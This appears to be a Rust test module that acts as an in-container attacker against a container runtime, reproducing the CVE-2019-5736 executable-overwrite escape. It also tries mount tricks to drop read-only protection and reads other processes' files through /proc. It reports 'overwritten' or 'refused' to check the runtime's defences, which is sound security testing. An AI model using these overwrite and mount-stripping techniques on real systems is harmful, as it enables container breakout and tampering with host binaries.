//! An attacker in a container who wants to write to the runtime's executable (CVE-2019-5736).

use crate::facts::errno;
use crate::{Words, say};
use nix::mount::{MsFlags, mount};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::time::{Duration, Instant};

/// Performs `name`; false if it is unknown.
pub fn act(name: &str, words: &Words<'_>) -> bool {
    match name {
        "hunt" => hunt(Duration::from_secs(words.number(0)), catch),
        "hunt-mapped" => hunt(Duration::from_secs(words.number(0)), catch_mapped),
        "look" => look(Duration::from_secs(words.number(0)), words.text(1)),
        "peek" => peek(Duration::from_secs(words.number(0))),
        _ => return false,
    }
    true
}

/// Prints `hunting`, and until the time is up searches for a process with another executable than this one.
/// Opens that executable, kills the process, and tries to write to the file: prints `overwritten`, or
/// `refused` and the kernel's errors.
fn hunt(time: Duration, catch: fn() -> io::Result<Option<Caught>>) {
    say!("hunting");
    let end = Instant::now() + time;
    let caught = loop {
        match catch() {
            Ok(Some(caught)) => break caught,
            Ok(None) if Instant::now() < end => {}
            Ok(None) => return say!("caught nothing"),
            Err(error) => return say!("hunt {}", errno(&error)),
        }
    };
    let (pid, file, path) = caught;
    say!("caught {pid} {path}");
    _ = kill(pid, Signal::SIGKILL);
    let (mut refusals, end) = (BTreeSet::new(), Instant::now() + Duration::from_secs(3));
    while Instant::now() < end {
        match overwrite(&file) {
            Ok(()) => return say!("overwritten"),
            // It is still being executed.
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {}
            Err(error) => _ = refusals.insert(errno(&error)),
        }
        make_writable(&file);
        std::thread::sleep(Duration::from_millis(10));
    }
    say!("refused {}", refusals.into_iter().collect::<Vec<_>>().join(" "));
}

/// The process, its executable, and the file's name.
type Caught = (Pid, File, String);

fn processes() -> io::Result<impl Iterator<Item = i32>> {
    let names = fs::read_dir("/proc")?.flatten().map(|entry| entry.file_name());
    Ok(names.filter_map(|name| name.to_str()?.parse().ok()))
}

/// A file called brig that another process has mapped: its loader. Requires access to map_files.
fn catch_mapped() -> io::Result<Option<Caught>> {
    for pid in processes()?.filter(|pid| *pid != 1) {
        let maps = fs::read_dir(format!("/proc/{pid}/map_files"));
        for entry in maps.into_iter().flatten().flatten() {
            let Ok(path) = fs::read_link(entry.path()) else { continue };
            let mut open = OpenOptions::new();
            let open = open.read(true).custom_flags(libc::O_PATH).open(entry.path());
            if let (true, Ok(file)) = (path.to_string_lossy().contains("brig"), open) {
                return Ok(Some((Pid::from_raw(pid), file, path.display().to_string())));
            }
        }
    }
    Ok(None)
}

/// The executable of another process, if it is not this one's.
fn catch() -> io::Result<Option<Caught>> {
    let own = fs::metadata("/proc/self/exe")?;
    for pid in processes()? {
        let exe = format!("/proc/{pid}/exe");
        let file = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&exe);
        let Ok(file) = file else { continue };
        let found = file.metadata()?;
        if (found.dev(), found.ino()) != (own.dev(), own.ino()) {
            let path = fs::read_link(format!("/proc/self/fd/{}", file.as_raw_fd()))?;
            return Ok(Some((Pid::from_raw(pid), file, path.display().to_string())));
        }
    }
    Ok(None)
}

/// Prints `peeking`, and until the time is up tries to inspect every other process with another executable.
/// Prints what it saw, and how often it was denied.
fn peek(time: Duration) {
    say!("peeking");
    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
    let (end, mut denied) = (Instant::now() + time, 0);
    while Instant::now() < end {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name == "1" || !name.bytes().all(|byte| byte.is_ascii_digit()) {
                continue;
            }
            match fs::read_link(format!("/proc/{name}/exe")) {
                Ok(exe) if exe != own => say!("peeked {name} {}", exe.display()),
                Ok(_) => {}
                Err(error) if error.kind() == io::ErrorKind::PermissionDenied => denied += 1,
                // It has exited.
                Err(_) => {}
            }
        }
    }
    say!("denied {denied}");
}

/// Prints `looking`, and until the time is up tries to read a file through the root, or with a relative path
/// through a descriptor, of every new process. Prints the process, or the number of new ones.
fn look(time: Duration, path: &str) {
    say!("looking");
    let (end, mut last, mut seen) = (Instant::now() + time, 0, 0);
    let found = |way: &String| fs::read(way).is_ok_and(|text| !text.is_empty());
    while Instant::now() < end {
        let load = fs::read_to_string("/proc/loadavg").unwrap_or_default();
        let newest: u32 = load.split_whitespace().last().map_or(0, |pid| pid.parse().unwrap_or(0));
        seen += u32::from(newest != last);
        last = newest;
        for pid in newest.saturating_sub(6).max(2)..newest + 4 {
            let ways: Vec<String> = match path.starts_with('/') {
                true => vec![format!("/proc/{pid}/root{path}")],
                false => (3..16).map(|fd| format!("/proc/{pid}/fd/{fd}/{path}")).collect(),
            };
            if pid != std::process::id()
                && let Some(way) = ways.iter().find(|way| found(way))
            {
                return say!("read {way}");
            }
        }
    }
    say!("looked at {seen}");
}

fn overwrite(file: &File) -> io::Result<()> {
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let mut open = OpenOptions::new().write(true).open(path)?;
    open.write_all(b"#!/bin/sh\n# overwritten\n")
}

/// Everything that could remove the protection of a mount, with CAP_SYS_ADMIN.
fn make_writable(file: &File) {
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    for flags in [MsFlags::MS_REMOUNT | MsFlags::MS_BIND, MsFlags::MS_REMOUNT] {
        // It is expected to fail; its effect is tested by opening the file.
        _ = mount(None::<&str>, path.as_str(), None::<&str>, flags, None::<&str>);
    }
    let attr = libc::mount_attr {
        attr_set: 0,
        attr_clr: libc::MOUNT_ATTR_RDONLY,
        propagation: 0,
        userns_fd: 0,
    };
    let (fd, size) = (file.as_raw_fd(), size_of_val(&attr));
    // SAFETY: the path is a C string; attr outlives the call and its size is passed.
    let done = unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            fd,
            c"".as_ptr(),
            libc::AT_EMPTY_PATH,
            &raw const attr,
            size,
        )
    };
    if done == 0 {
        say!("mount_setattr ok");
    }
    let flags = libc::OPEN_TREE_CLONE | libc::AT_EMPTY_PATH.cast_unsigned();
    // SAFETY: the path is a C string.
    let tree = unsafe { libc::syscall(libc::SYS_open_tree, fd, c"".as_ptr(), flags) };
    if tree >= 0 {
        say!("open_tree ok");
    }
    // SAFETY: as above; FSPICK_EMPTY_PATH is 8.
    let picked = unsafe { libc::syscall(libc::SYS_fspick, fd, c"".as_ptr(), 8) };
    if picked >= 0 {
        say!("fspick ok");
    }
}
